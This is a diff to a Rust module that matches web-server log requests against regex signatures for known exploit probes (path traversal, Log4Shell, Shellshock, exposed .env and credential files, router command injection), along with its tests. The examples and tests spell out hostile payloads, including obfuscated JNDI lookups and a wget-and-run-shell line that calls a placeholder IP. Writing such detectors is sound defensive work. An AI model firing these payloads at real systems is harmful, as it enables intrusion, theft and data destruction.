@@ -1,17 +1,17 @@
 //! Requests for well-known holes: is somebody trying the doors?
 //!
 //! Takes a request, says whether it looks for one of the holes in [`PROBES`]. A request is read as a server would: log
-//! escapes undone, then percent signs, twice, since filters are got around with `%252e`. Few patterns, each with its
-//! source: a request that people make too is no probe, however often scanners make it. So `/wp-login.php`, `/xmlrpc.php`,
-//! `/phpmyadmin/`, `/actuator/health` (monitors) and a single `../` in a query do not count.
+//! escapes undone, then what [`super::disguise`] knows. Few patterns, each with its source: a request that people make too is no
+//! probe, however often scanners make it. So `/wp-login.php`, `/xmlrpc.php`, `/phpmyadmin/`, `/actuator/health` (monitors) and
+//! a few `../` in a query do not count.
 
-use std::borrow::Cow;
 use std::sync::LazyLock;
 
 use regex::bytes::Regex;
 
+use super::disguise::{bare, decode, fold};
 use super::path::split_target;
-use crate::parse::web::{self, Web};
+use crate::parse::web::Web;
 
 /// One well-known hole, and the requests that look for it.
 #[derive(Debug, Clone, Copy)]
@@ -31,13 +31,13 @@ pub struct Probe {
 /// A part of a request.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Place {
-    /// The path of the target, decoded.
+    /// The path of the target, decoded, folded and bared.
     Path,
-    /// The target with its query, decoded.
+    /// The target with its query, decoded and folded.
     Target,
-    /// The user agent or the referrer, and the decoded target.
+    /// What a header says, and the target as in [`Place::Target`].
     Anywhere,
-    /// The user agent or the referrer.
+    /// What a header says: user agent, referrer, user or X-Forwarded-For.
     Header,
 }
 
@@ -45,36 +45,50 @@ const fn probe(name: &'static str, place: Place, pattern: &'static str, source: 
     Probe { name, place, pattern, source, example }
 }
 
+/// What may stand between two letters of a lookup: the begin of another one up to its outcome, or an end; any number of them.
+macro_rules! lookup {
+    () => {
+        r"(?:\$+\{[^${}]*[:-]'?|'?\})*"
+    };
+}
+
 /// Every hole that is known. Patterns and examples are the project's own.
 #[rustfmt::skip]
 pub const PROBES: &[Probe] = &[
-    // Browsers resolve `..` before they ask, so one in a path is a tool's; `\xc0\xaf` and `\xc1\x9c` are overlong `/` and `\`.
-    probe("path traversal", Place::Path, r"(?:^|[/\\]|\xc0\xaf|\xc1\x9c)\.\.(?:[/\\;]|\xc0\xaf|\xc1\x9c|$)", "CVE-2021-41773, CVE-2021-42013, CVE-2020-5902, CVE-2000-0884", "/cgi-bin/.%2e/.%%32%65/%252e%252e/bin/id"),
-    probe("path traversal in a query", Place::Target, r"\?.*(?:\.\.[/\\]+){2}", "CVE-2018-13379; CWE-22", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
-    probe("password file", Place::Target, r"/etc/(?:passwd|shadow)(?:[^\w.-]|$)|/proc/self/environ|[/\\]windows[/\\]win\.ini", "OWASP WSTG-ATHZ-01", "/download?file=/etc/passwd%00.html"),
+    // Browsers resolve `..` before they ask, so one in a path is a tool's.
+    probe("path traversal", Place::Path, r"(?:^|/)\.\.(?:/|$)", "CVE-2021-41773, CVE-2021-42013, CVE-2020-5902, CVE-2000-0884", "/cgi-bin/.%2e/.%%32%65/%252e%252e/bin/id"),
+    // Pages of a site link to each other with up to three steps (`?next=../../login`); four, or a known file behind one, no page needs.
+    probe("path traversal in a query", Place::Target, r"\?.*(?:(?:(?:\.\.){1,2}/){4}|\.\./(?:etc/(?:passwd|shadow|hosts|group)|proc/self/\w+|(?:(?:windows|winnt)/)?win\.ini|boot\.ini|web-inf/web\.xml|wp-config\.php|\.env)(?:[^\w.-]|$))", "CVE-2018-13379; CWE-22", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+    // As a whole path or a whole value, or as what a command reads: people write about these files too.
+    probe("password file", Place::Target, r#"(?:^(?:/@fs)?|[?&=][ +]*|file:|\(['"]?|(?:[;|`(]|\b(?:cmd|command|exec)=)[ +]*(?:/bin/)?cat(?:[ +]|\$\{?ifs\}?)+)(?:[a-z]:)?/(?:etc/(?:passwd|shadow)|proc/self/(?:environ|cmdline|maps|status|fd/\d+)|windows/win\.ini)(?:[^\w.-]|$)"#, "OWASP WSTG-ATHZ-01, WSTG-INPV-12", "/download?file=/etc/passwd%00.html"),
     probe("Shellshock", Place::Header, r"^\(\) ?\{", "CVE-2014-6271", "() { :; }; /bin/id"),
     probe("Shellshock in a target", Place::Target, r"(?:^|[/?&=])\(\) ?\{ ?:?;? ?\}?;", "CVE-2014-6271", "/cgi-bin/status?()%20{%20:;};%20/bin/id"),
-    probe("Log4Shell", Place::Anywhere, r"\$\{(?:jndi:|[jndi]{0,3}\$\{|(?:lower|upper|env|sys|base64|date):|:+-)", "CVE-2021-44228, CVE-2021-45046", "${${lower:j}ndi:${::-l}dap://192.0.2.1/a}"),
-    probe("environment file", Place::Path, r"/\.env(?:[._~-][^/]*)?$", "CVE-2017-16894; CWE-538", "/api/.env.production"),
+    // The letters of `jndi:` in a lookup, each perhaps the outcome of another one, `${lower:j}` or `${::-j}`; `\xc4\xb1` is a dotless i.
+    probe("Log4Shell", Place::Anywhere, concat!(r"\$\{", lookup!(), "j", lookup!(), "n", lookup!(), "d", lookup!(), r"(?:i|\xc4\xb1)", lookup!(), r":|\$\{base64:jhtqbmrp"), "CVE-2021-44228, CVE-2021-45046", "${${lower:j}ndi:${::-l}dap://192.0.2.1/a}"),
+    // No file's name has one; it ends the name for what is written in C.
+    probe("NUL in a path", Place::Target, r"^/[^?\x00]*\x00", "CVE-2006-7243; CWE-158", "/wp-config.php%00.html"),
+    // Whatever is behind `.env` but `.html`: that is a page about it.
+    probe("environment file", Place::Path, r"/\.env(?:[_~-][^./]*)?(?:(?:\.[^./]*)*\.(?:[^./h][^./]*|h(?:[^./t][^./]*)?|ht(?:[^./m][^./]*)?|htm[^./l][^./]*|html[^./]+)?)?$", "CVE-2017-16894; CWE-538", "/api/.env.production"),
     probe("version control", Place::Path, r"/\.(?:git|svn|hg|bzr)(?:/|$)|/\.git(?:config|-credentials)$", "CWE-527", "/.git/config"),
     probe("key or credentials file", Place::Path, r"/\.(?:aws/(?:credentials|config)|ssh/(?:id_[a-z0-9]+|authorized_keys)|docker/config\.json|vscode/sftp\.json|htpasswd)$", "CWE-538; OWASP WSTG-CONF-04", "/.aws/credentials"),
     probe("wp-config backup", Place::Path, r"/[.#]?wp-config(?:\.php[.~_#-][^/]*|\.(?:bak|old|orig|save|txt|zip|inc|swp))$", "OWASP WSTG-CONF-04; WordPress, Hardening WordPress", "/wp-config.php.bak"),
     probe("PHPUnit eval-stdin", Place::Path, r"/eval-stdin\.php$", "CVE-2017-9841", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
-    probe("shell in cgi-bin", Place::Path, r"/cgi-bin/(?:.*/)?(?:ba|da|z|k|c)?sh$", "CVE-2021-41773; CERT advisory CA-1996-11", "/cgi-bin/bash"),
+    probe("shell in cgi-bin", Place::Path, r"/cgi-bin/(?:.*/)?(?:ba|da|z|k)?sh$", "CVE-2021-41773; CERT advisory CA-1996-11", "/cgi-bin/bash"),
     probe("php-cgi argument", Place::Target, r"\?.*(?:-|\xad)d[ +]*allow_url_include", "CVE-2012-1823, CVE-2024-4577", "/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
-    probe("ThinkPHP", Place::Target, r"think[/\\]+app[/\\]+invokefunction", "CVE-2018-20062", r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array"),
+    probe("ThinkPHP", Place::Target, r"think/app/invokefunction", "CVE-2018-20062", r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array"),
     probe("Laravel Ignition", Place::Path, r"/_ignition/execute-solution$", "CVE-2021-3129", "/_ignition/execute-solution"),
-    probe("Spring actuator", Place::Path, r"/actuator(?:/(?:env|gateway/.*|heapdump|threaddump|configprops|mappings|beans|jolokia|logfile|httptrace|trace))?/?$", "CVE-2022-22947; Spring Boot, Actuator endpoints", "/actuator/gateway/routes"),
+    probe("Spring actuator", Place::Path, r"/actuator(?:/(?:env|gateway/.*|heapdump|threaddump|configprops|mappings|beans|jolokia|logfile|httptrace|trace))?$", "CVE-2022-22947; Spring Boot, Actuator endpoints", "/actuator/gateway/routes"),
     probe("Spring4Shell", Place::Target, r"class\.module\.classloader\.", "CVE-2022-22965", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
-    probe("Java expression", Place::Target, r"@?java\.lang\.(?:runtime|processbuilder)\b", "CVE-2022-26134, CVE-2017-5638", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"),
+    probe("Java expression", Place::Target, r#"java\.lang\.(?:runtime|processbuilder)(?:@|\(|\)?\.getruntime\b|['"]\)\.)"#, "CVE-2022-26134, CVE-2017-5638, CVE-2022-22963", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"),
     probe("ProxyShell", Place::Target, r"/autodiscover\.json.*@.*(?:powershell|/mapi/nspi)", "CVE-2021-34473", "/autodiscover/autodiscover.json?a@b.example/powershell"),
-    probe("WebLogic wls-wsat", Place::Path, r"^/wls-wsat/", "CVE-2017-10271", "/wls-wsat/CoordinatorPortType"),
-    probe("GPON router", Place::Path, r"^/(?:boaform|gponform)/", "CVE-2020-8958, CVE-2018-10561", "/boaform/admin/formLogin"),
-    probe("D-Link HNAP", Place::Path, r"^/hnap1/?$", "CVE-2015-2051", "/HNAP1/"),
+    probe("WebLogic wls-wsat", Place::Path, r"^/wls-wsat(?:/|$)", "CVE-2017-10271", "/wls-wsat/CoordinatorPortType"),
+    probe("WebLogic async", Place::Path, r"^/_async/asyncresponseservice", "CVE-2019-2725", "/_async/AsyncResponseService"),
+    probe("GPON router", Place::Path, r"^/(?:boaform|gponform)(?:/|$)", "CVE-2020-8958, CVE-2018-10561", "/boaform/admin/formLogin"),
+    probe("D-Link HNAP", Place::Path, r"^/hnap1$", "CVE-2015-2051", "/HNAP1/"),
     probe("MVPower recorder", Place::Target, r"^/shell\?.*\bcd[ +]+/", "CVE-2016-20016", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x;sh+x"),
     probe("NETGEAR setup.cgi", Place::Target, r"/setup\.cgi\?.*todo=syscmd", "CVE-2024-12847", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/"),
     probe("DrayTek Vigor", Place::Path, r"^/cgi-bin/mainfunction\.cgi", "CVE-2020-8515", "/cgi-bin/mainfunction.cgi"),
-    probe("TP-Link Archer", Place::Path, r"^/cgi-bin/luci/;stok=/locale", "CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write"),
+    probe("TP-Link Archer", Place::Target, r"^/cgi-bin/luci/;stok=/locale", "CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write"),
     probe("Hikvision camera", Place::Path, r"^/sdk/weblanguage$", "CVE-2021-36260", "/SDK/webLanguage"),
     probe("nmap", Place::Path, r"^/nmaplowercheck\d+$|^/nice ports,/trinity\.txt\.bak$", "nmap nselib/http.lua, nmap-service-probes FourOhFourRequest", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
 ];
@@ -83,7 +97,7 @@ pub const PROBES: &[Probe] = &[
 #[must_use]
 pub fn is_probe(web: &Web<'_>) -> bool {
     let Some(probes) = PATTERNS.as_ref() else { return false };
-    let headers = [web.agent, web.referrer];
+    let headers = [web.agent, web.referrer, web.user, web.forwarded];
     web.target().is_some_and(|target| probes.finds_in_target(&web.plain(target)))
         || headers.into_iter().flatten().any(|header| probes.header.is_match(&web.plain(header)))
 }
@@ -113,39 +127,16 @@ impl Patterns {
     fn finds_in_target(&self, target: &[u8]) -> bool {
         // The path is cut off before it is decoded: an encoded `?` is part of a name.
         let (path, query) = split_target(target);
-        let path = decode(path);
-        if self.path.is_match(&path) {
+        let decoded = decode(path);
+        let path = fold(&decoded);
+        if self.path.is_match(&bare(&path)) {
             return true;
         }
         match query {
-            Some(query) => self.target.is_match(&[&path, &b"?"[..], &decode(query)].concat()),
+            Some(query) => self.target.is_match(&[&path, &b"?"[..], &fold(&decode(query))].concat()),
             None => self.target.is_match(&path),
         }
     }
-}
-
-/// Undoes percent signs twice; what is no escape stays. Never longer than what came.
-///
-/// **Source:** RFC 3986 section 2.1; twice because of CVE-2021-42013.
-fn decode(text: &[u8]) -> Cow<'_, [u8]> {
-    if memchr::memchr(b'%', text).is_none() {
-        return Cow::Borrowed(text);
-    }
-    Cow::Owned(decode_once(&decode_once(text)))
-}
-
-fn decode_once(text: &[u8]) -> Vec<u8> {
-    let mut out = Vec::with_capacity(text.len());
-    let mut rest = text;
-    while let [byte, after @ ..] = rest {
-        let digits = match after {
-            [high, low, ..] if *byte == b'%' => web::hex(*high).zip(web::hex(*low)),
-            _ => None,
-        };
-        out.push(digits.map_or(*byte, |(high, low)| high << 4 | low));
-        rest = if digits.is_some() { &after[2..] } else { after };
-    }
-    out
 }
 
 #[cfg(test)]
@@ -153,21 +144,24 @@ mod tests {
     use super::*;
     use crate::parse::web::Escaping;
 
-    fn fires(target: &str, agent: &str) -> bool {
-        let request = format!("GET {target} HTTP/1.1");
-        is_probe(&Web {
+    fn request(line: &str) -> Web<'_> {
+        Web {
             client: b"192.0.2.1",
             domain: None,
             user: None,
             time: None,
-            request: Some(request.as_bytes()),
+            request: Some(line.as_bytes()),
             status: Some(404),
             body_bytes: None,
             referrer: None,
-            agent: Some(agent.as_bytes()),
+            agent: None,
             forwarded: None,
             escaping: Escaping::Logged,
-        })
+        }
+    }
+
+    fn fires(target: &str, agent: &str) -> bool {
+        is_probe(&Web { agent: Some(agent.as_bytes()), ..request(&format!("GET {target} HTTP/1.1")) })
     }
 
     #[test]
@@ -179,10 +173,11 @@ mod tests {
             let (target, agent) = if is_header { ("/", &*logged) } else { (&*logged, "Mozilla/5.0") };
             assert!(fires(target, agent), "{}", probe.name);
             let (path, query) = split_target(probe.example.as_bytes());
-            let whole = [&decode(path)[..], query.map_or(&b""[..], |_| b"?"), &decode(query.unwrap_or_default())].concat();
+            let folded = fold(&decode(path)).into_owned();
+            let query = query.map(|query| [&b"?"[..], &fold(&decode(query))].concat()).unwrap_or_default();
             let text = match probe.place {
-                Place::Path => decode(path).into_owned(),
-                Place::Target | Place::Anywhere => whole,
+                Place::Path => bare(&folded).into_owned(),
+                Place::Target | Place::Anywhere => [folded, query].concat(),
                 Place::Header => probe.example.into(),
             };
             let own = Regex::new(&format!("(?is-u){}", probe.pattern)).expect("a pattern");
@@ -215,8 +210,68 @@ mod tests {
             "/?f=..%2f..%2f..%2fboot.ini",
             "/actuator",
             "/api/actuator/heapdump",
+            "/.env%00",
+            "/.env%20",
+            "/.env/",
+            "/.env/.",
+            "//.env",
+            "/.env;.js",
+            "/.env~",
+            "/.env.",
+            "/.env.local.php",
+            "/.env_old",
+            "/.env.htpasswd",
+            "/.git;/config",
+            "/actuator;/env",
+            "/actuator/;x=y/env",
+            "/..%09/",
+            "/..%00/",
+            "/a/%u002e%u002e/b",
+            "/a/%c0%ae%c0%ae/b",
+            "/a/%25252e%25252e/b",
+            "/?file=/etc//passwd",
+            "/?file=/etc/./passwd",
+            "/?file=%5cetc%5cpasswd",
+            "/?file=+/etc/passwd&x=1",
+            "/?file=file:///etc/passwd",
+            "/?file=php://filter/convert.base64-encode/resource=/etc/passwd",
+            "/?file=../etc/passwd",
+            "/?file=....//....//etc/passwd",
+            "/?file=/var/www/../../etc/shadow",
+            "/?file=C:/windows/win.ini",
+            "/?file=../../../../x",
+            "/?ping=192.0.2.1;cat+/etc/passwd",
+            "/?cmd=cat$%7BIFS%7D/etc/passwd",
+            "/etc/passwd",
+            "/@fs/etc/passwd?raw??",
+            "/proc/self/cmdline",
+            "/?file=/proc/self/environ",
+            "/wp-config.php%00",
+            "/.aws/credentials%00",
+            "/vendor/phpunit/eval-stdin.php/",
+            "/wls-wsat",
+            "/_async/AsyncResponseService",
+            "/boaform",
+            "/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1}",
+            "/?x=${${lower:jndi}:ldap://192.0.2.1}",
+            "/?x=${jndi${x:-:}ldap://192.0.2.1}",
+            "/?x=${${date:'j'}ndi:ldap://192.0.2.1}",
+            "/?x=${${::-${::-$${::-j}}}}ndi:ldap://192.0.2.1}",
+            "/?x=${jnd${upper:%C4%B1}:ldap://192.0.2.1}",
+            "/?x=${base64:JHtqbmRpOmxkYXA6Ly8xOTIuMC4yLjEvYX0=}",
+            "/?x=T(java.lang.Runtime).getRuntime().exec(1)",
+            "/?x=new+java.lang.ProcessBuilder(1)",
+            "/?x=''.getClass().forName('java.lang.Runtime').getMethods()",
         ] {
             assert!(fires(target, "Mozilla/5.0"), "{target}");
+        }
+        let header = b"${jndi:ldap://192.0.2.1/a}";
+        assert!(is_probe(&Web { user: Some(header), ..request("GET / HTTP/1.1") }));
+        assert!(is_probe(&Web { forwarded: Some(header), ..request("GET / HTTP/1.1") }));
+        assert!(is_probe(&Web { referrer: Some(header), ..request("GET / HTTP/1.1") }));
+        assert!(!is_probe(&Web { user: Some(b"${user}"), forwarded: Some(b"192.0.2.9"), ..request("GET / HTTP/1.1") }));
+        for line in ["GET /.env  HTTP/1.1", "GET /.env HTTP/1.1 ", r"GET /.env\tHTTP/1.1", r"GET\t/.env HTTP/1.1", "G.T /.env HTTP/1.1"] {
+            assert!(is_probe(&request(line)), "{line}");
         }
         for agent in ["() { :;}; echo", "(){ x", "${jndi:dns://192.0.2.1}", r"\x24{jndi:ldap://192.0.2.1}"] {
             assert!(fires("/", agent), "{agent}");
@@ -273,10 +328,39 @@ mod tests {
             "/100%25-off",
             "/50%",
             "/a%zz",
+            "/javadoc/java.lang.Runtime.html",
+            "/?topic=java.lang.Runtime",
+            "/?q=java.lang.ProcessBuilder+example",
+            "/?q=${date:yyyy}",
+            "/?q=${env:HOME}",
+            "/?x=${upper:a}",
+            "/?a=${${x}}",
+            "/?a=${jndi}",
+            "/?redirect=../../login",
+            "/?redirect=../../../login",
+            "/?redirect=../etc/hosts.html",
+            "/docs/.env.html",
+            "/docs/.env.HTM",
+            "/docs/.env.local.html",
+            "/docs/.env-guide.html",
+            "/docs/.env_guide/page",
+            "/cgi-bin/csh",
+            "/?q=how+to+edit+/etc/passwd",
+            "/?q=edit+c:%5Cwindows%5Cwin.ini",
+            "/man5/etc/passwd",
+            "/man5/proc/self/environ",
+            "/cgi-bin/luci/locale",
+            "/page;jsessionid=0123",
+            "/my%20files/a%20b.txt",
+            "/go?to=//cdn.example//a/./b",
+            "/wls-wsatx",
+            "/boaforms/list",
         ] {
             assert!(!fires(target, "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"), "{target}");
         }
         assert!(!fires("/", "x () { y"));
+        // A TLS greeting on a port without TLS looks for no hole.
+        assert!(!is_probe(&request(r"\x16\x03\x01\x00\xf7/\x00")));
         assert!(PATTERNS.is_some());
     }
 }
